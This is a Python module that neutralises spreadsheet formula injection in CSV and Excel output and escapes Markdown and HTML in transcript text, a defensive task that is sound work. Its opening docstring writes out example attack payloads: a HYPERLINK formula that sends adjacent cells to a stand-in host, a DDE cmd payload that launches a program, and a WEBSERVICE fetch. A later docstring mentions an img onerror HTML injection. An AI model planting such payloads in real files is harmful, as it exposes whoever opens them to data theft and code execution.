"""Spreadsheet safety: what Consensa writes stays data in every workbook and CSV.

Transcript text, a theme name a judge typed, a case id taken from a file name: any
of them may begin with ``=``, ``+``, ``-`` or ``@``, which Excel, LibreOffice and
Google Sheets read as the start of a formula (``=HYPERLINK("http://x?d="&E2,"x")``
sends the cells beside it away, ``=cmd|' /C calc'!A0`` starts a program on old
Excel, ``=WEBSERVICE(...)`` fetches a URL); so they do after leading white space,
which an import can trim, and in their full-width forms ``＝＋－＠``, which an East
Asian input method types and a spreadsheet may read as the ASCII ones. Every
workbook and every CSV meant for a spreadsheet that Consensa writes goes through
this module:

* :func:`set_cell` and :func:`append_row` write a ``str`` as a string cell (data
  type ``"s"``) whatever it starts with, never as a formula; one that looks like a
  formula also gets Excel's quote prefix, so it stays text when a judge edits the
  cell. They drop the control characters an .xlsx cannot hold (:func:`xml_safe`),
  so no writer fails with openpyxl's ``IllegalCharacterError``.
* :func:`to_csv` (:func:`neutralise_frame`) puts a single quote before a text cell
  that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return, after any
  white space and in either width (OWASP's advice against CSV injection). Numbers
  are left alone: numeric columns are not touched, and neither is text that is
  exactly a decimal number (``-1``), which a spreadsheet reads as that number and
  never as a formula.
* :func:`restore_frame` (:func:`restore`) undoes the quote exactly. Consensa reads
  its own CSVs back through it, so a theme name or a quote is the same text after
  the round trip. Text that already begins with quotes before such a character
  gets one more quote when written, so the undoing is never ambiguous.

The exact text stays exact where Consensa keeps it (segments.parquet, the review
store, codebook.yaml): only the spreadsheet files carry the quote.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from functools import cache
from typing import Any

import numpy as np
import pandas as pd

#: First characters that make a spreadsheet read a cell as a formula (or, for tab and
#: carriage return, that hide one behind white space when the file is imported), in
#: ASCII and full width.
TRIGGERS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")

#: A formula's start: a trigger after any white space (a spreadsheet trims it on import)
_FORMULA = re.compile(r"\s*[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]")
_NEEDS_QUOTE = re.compile(r"'*" + _FORMULA.pattern)
_QUOTED = re.compile(r"'+" + _FORMULA.pattern)
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
_FIRST = TRIGGERS | {"'"}          # what a changed cell starts with, either way (or space)
#: form feed and vertical tab separate words (page and line breaks): they become spaces
_AS_SPACE = frozenset("\x0b\x0c")


# --- text -----------------------------------------------------------------------

#: characters Markdown would read as markup inside a line: emphasis, code, links
_MD_MARKUP = re.compile(r"([\\`*_\[\]])")


def markdown_text(text: Any) -> str:
    """Transcript (or judges') text as one line of Markdown that shows it and obeys
    none of it: ``<``, ``>`` and ``&`` as HTML entities (a Markdown viewer renders raw
    HTML, so ``<img onerror=...>`` in a quote would run), emphasis, code and link
    characters escaped, and a leading ``#`` kept from making a heading."""
    one = " ".join(str(text).split())
    one = one.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    one = _MD_MARKUP.sub(r"\\\1", one)
    return "\\" + one if one.startswith("#") else one


def markdown_cell(text: Any) -> str:
    """:func:`markdown_text` for a cell of a Markdown table: pipes escaped too."""
    return markdown_text(text).replace("|", "\\|")


def neutralise(text: str) -> str:
    """``text`` as a CSV cell: a leading ``'`` when it would start a formula."""
    if _NEEDS_QUOTE.match(text) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


def restore(text: str) -> str:
    """The inverse of :func:`neutralise`: ``restore(neutralise(t)) == t`` for every str."""
    return text[1:] if _QUOTED.match(text) else text


def xml_safe(text: str) -> str:
    """``text`` without the control characters an .xlsx cannot hold.

    Form feed and vertical tab become spaces (they separate words); the others
    (NUL, escape, ...) are removed. Tab, newline and carriage return are kept.
    Ingest already normalises transcripts this way; this guard covers any other
    text (names, comments, paths) a writer is given.
    """
    return _illegal().sub(lambda m: " " if m.group() in _AS_SPACE else "", text)


@cache
def _illegal() -> re.Pattern[str]:
    """openpyxl's own pattern of what it refuses (imported late: writing CSVs needs none)."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    return ILLEGAL_CHARACTERS_RE


# --- CSV --------------------------------------------------------------------------

def _text_positions(df: pd.DataFrame) -> list[int]:
    """Positions of the columns that may hold text (object, string, categorical)."""
    out = []
    for i, dtype in enumerate(df.dtypes):
        if (pd.api.types.is_object_dtype(dtype) or isinstance(dtype, pd.StringDtype)
                or isinstance(dtype, pd.CategoricalDtype)):
            out.append(i)
    return out


def _map_frame(df: pd.DataFrame, fn) -> pd.DataFrame:
    """``fn`` on every str cell, column name and index label (``fn`` changes only text
    that starts with a quote or a trigger, so the other cells are skipped cheaply)."""
    out = df.copy()
    for i in _text_positions(out):
        col = out.iloc[:, i]
        if isinstance(col.dtype, pd.CategoricalDtype):
            col = col.astype(object)
        values = col.tolist()
        hits = [j for j, v in enumerate(values)
                if isinstance(v, str) and (v[:1] in _FIRST or v[:1].isspace())]
        if not hits:
            continue
        for j in hits:
            values[j] = fn(values[j])
        keep = col.dtype if isinstance(col.dtype, pd.StringDtype) else object
        out.isetitem(i, pd.Series(values, index=out.index, dtype=keep))
    if not isinstance(out.columns, pd.MultiIndex):
        out.columns = [fn(c) if isinstance(c, str) else c for c in out.columns]
    if not isinstance(out.index, pd.MultiIndex) and (
            pd.api.types.is_object_dtype(out.index.dtype)
            or isinstance(out.index.dtype, pd.StringDtype)):
        name = out.index.name
        out.index = pd.Index([fn(v) if isinstance(v, str) else v for v in out.index],
                             dtype=object, name=fn(name) if isinstance(name, str) else name)
    return out


def neutralise_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` whose text cells, column names and index are :func:`neutralise`\\ d."""
    return _map_frame(df, neutralise)


def restore_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` (read from a CSV Consensa wrote) with its text :func:`restore`\\ d."""
    return _map_frame(df, restore)


#: The byte-order mark every CSV Consensa writes begins with: Excel on Windows reads a
#: CSV without it in the system's code page, and "it’s" and "é" come out as "itâ€™s"
#: and "Ã©". pandas, readr, data.table, LibreOffice and SPSS read past it; base R's
#: ``read.csv`` needs ``fileEncoding = "UTF-8-BOM"``.
CSV_BOM = "\ufeff"


def to_csv(df: pd.DataFrame, path: Any = None, **kwargs: Any) -> str | None:
    """``df.to_csv(path, **kwargs)`` with list cells joined (:func:`join_list`) and every
    text cell neutralised first, in UTF-8 with a byte-order mark (:data:`CSV_BOM`):
    the text returned (no ``path``), a text buffer and a file all begin with it.

    A table with a carriage return in a text cell (a transcript with old Mac line
    endings, a pasted cell) is written with every field quoted: neither pandas nor
    Python's csv module quotes a field for a lone ``\r``, and every reader (Excel,
    pandas, R) ends the row there, so the rest of the cell became a row of its own,
    its first cell a formula no leading quote guarded."""
    out = neutralise_frame(join_lists(df))
    if "quoting" not in kwargs and has_carriage_return(out):
        kwargs["quoting"] = csv.QUOTE_ALL
    if path is None:
        return CSV_BOM + out.to_csv(**kwargs)
    if hasattr(path, "write"):
        path.write(CSV_BOM)
    else:
        kwargs.setdefault("encoding", "utf-8-sig")
    return out.to_csv(path, **kwargs)


def has_carriage_return(df: pd.DataFrame) -> bool:
    """Whether a text cell, a column name or the index of ``df`` holds ``\r``."""
    cols = [df.iloc[:, i] for i in range(df.shape[1])]
    cells = [df.columns, df.index] + [c for c in cols if c.dtype == object
                                      or pd.api.types.is_string_dtype(c)]
    return any(isinstance(v, str) and "\r" in v for col in cells for v in col)


# --- lists in one cell ----------------------------------------------------------------

#: How a list (keywords, case ids, quote ids, theme ids) is written into one CSV or
#: workbook cell. Consensa keeps lists as lists (in memory and in its parquet tables);
#: they are joined only here, where a cell is written for people.
LIST_SEPARATOR = "; "


def is_list(value: Any) -> bool:
    return isinstance(value, (list, tuple, np.ndarray))


def join_list(value: Any) -> str:
    """A list as the text of one cell: its items joined with ``"; "``."""
    return LIST_SEPARATOR.join(str(v) for v in value)


def split_list(text: Any) -> list[str]:
    """The inverse of :func:`join_list`, for a cell of a CSV written before the tables
    were kept typed (split on ";", blanks around items dropped)."""
    if text is None or (isinstance(text, float) and np.isnan(text)):
        return []
    return [p.strip() for p in str(text).split(";") if p.strip()]


def join_lists(df: pd.DataFrame) -> pd.DataFrame:
    """``df`` with every list cell joined into text (the frame itself when it holds none)."""
    cols = [i for i in _text_positions(df)
            if any(is_list(v) for v in df.iloc[:, i].tolist())]
    if not cols:
        return df
    out = df.copy()
    for i in cols:
        out.isetitem(i, pd.Series([join_list(v) if is_list(v) else v for v in out.iloc[:, i]],
                                  index=out.index, dtype=object))
    return out


# --- workbooks ----------------------------------------------------------------------

#: The most characters a spreadsheet cell holds (Excel's limit; openpyxl cuts longer
#: text without a word).
CELL_LIMIT = 32_767


def fit_cell(text: str, items: int | None = None) -> str:
    """``text`` as one cell holds it: whole when it fits; else cut, and the cut said in
    the cell, so a reader never takes a part for the whole. A joined list (``items``
    items) is cut after its last whole item ("... and 173 more"); other text at the
    limit. The run's CSV and parquet tables keep the full text."""
    if len(text) <= CELL_LIMIT:
        return text
    if items is not None:
        parts = text.split(LIST_SEPARATOR)
        kept, size = [], 0
        for part in parts:
            # room for the separator and the longest ending it may need
            if size + len(part) + len(LIST_SEPARATOR) + 120 > CELL_LIMIT:
                break
            kept.append(part)
            size += len(part) + len(LIST_SEPARATOR)
        return (LIST_SEPARATOR.join(kept) + f" … and {len(parts) - len(kept):,} more "
                "(too many for a spreadsheet cell; Consensa's .csv tables list them all)")
    note = (" … [cut: {:,} more characters do not fit in a spreadsheet cell; Consensa's "
            ".csv tables have the full text]")
    kept = text[:CELL_LIMIT - len(note.format(len(text)))]    # the count is no wider
    return kept + note.format(len(text) - len(kept))


def cell_value(value: Any) -> Any:
    """``value`` as openpyxl can store it: numpy scalars as Python ones, NaN as an empty
    cell, a list joined into text (:func:`join_list`), text without the characters an
    .xlsx cannot hold and no longer than a cell holds (:func:`fit_cell`)."""
    if isinstance(value, str):
        return fit_cell(xml_safe(value))
    if is_list(value):
        return fit_cell(xml_safe(join_list(value)), items=len(value))
    if isinstance(value, np.bool_):
        return bool(value)
    if isinstance(value, np.integer):
        return int(value)
    if isinstance(value, (float, np.floating)):
        return None if np.isnan(value) else float(value)
    if value is pd.NA or value is pd.NaT:
        return None
    return value


def cell_text(value: Any) -> str:
    """A cell as text to compare with what a writer put there (:func:`cell_value`):
    a whole number as an id (3.0 is "3"), white space collapsed (a spreadsheet may
    turn a line break into another), "" for an empty cell. An import checks a row's
    read-only cells against its id with it."""
    value = cell_value(value)
    if value is None:
        return ""
    if isinstance(value, float) and value.is_integer():
        value = int(value)
    return " ".join(str(value).split())


def _as_text(cell) -> None:
    """Make a cell holding a str a string cell, never a formula."""
    if isinstance(cell.value, str):
        cell.data_type = "s"
        if _FORMULA.match(cell.value):
            cell.quotePrefix = True      # Excel keeps it text when the cell is edited


def set_cell(cell, value: Any):
    """Write ``value`` into an openpyxl ``cell``; a str is always a string cell."""
    cell.value = cell_value(value)
    _as_text(cell)
    return cell


def append_row(ws, values: Iterable[Any]) -> int:
    """``ws.append(values)`` with :func:`set_cell`'s guarantees; returns the row number.

    The cells are made and typed before they are appended (openpyxl's ``append``
    takes ``Cell`` objects), so no row is looked up afterwards: asking for
    ``ws.max_row`` after every row scans the whole sheet, which made a large
    workbook quadratic to write.
    """
    from openpyxl.cell.cell import Cell

    cells = []
    for value in values:
        cell = Cell(ws, value=cell_value(value))
        _as_text(cell)
        cells.append(cell)
    ws.append(cells)
    return cells[0].row if cells else ws.max_row


# --- reading what a person filled in ------------------------------------------------

def is_formula(cell) -> bool:
    """Whether an openpyxl cell, of a workbook loaded with ``data_only=False``, holds a
    formula rather than text.

    A judge who types ``=Grief for her mother`` into a cell makes a formula. Loaded
    with ``data_only=True`` that cell reads as blank when the file was saved by a
    script or LibreOffice without computed values, or as the formula's result
    (``#NAME?``) when Excel saved it: the entry would be lost or misread. So readers
    of filled-in workbooks load formulas as formulas and refuse them with
    :func:`formula_problem`. Text Consensa wrote is a string cell whatever it starts
    with (:func:`set_cell`), so it is never taken for one."""
    return getattr(cell, "data_type", None) == "f"


def formula_problem(where: str, column: str, value: Any) -> str:
    """The error for a formula in a cell that is read as text (:func:`is_formula`)."""
    shown = str(value if value is not None else "")
    shown = shown[:40] + ("…" if len(shown) > 40 else "")
    return (f"{where}, column '{column}': the cell holds a formula ({shown}), which is never "
            "read as an answer; type the text itself (start it with an apostrophe, '=..., "
            "to keep a leading =) and import again")
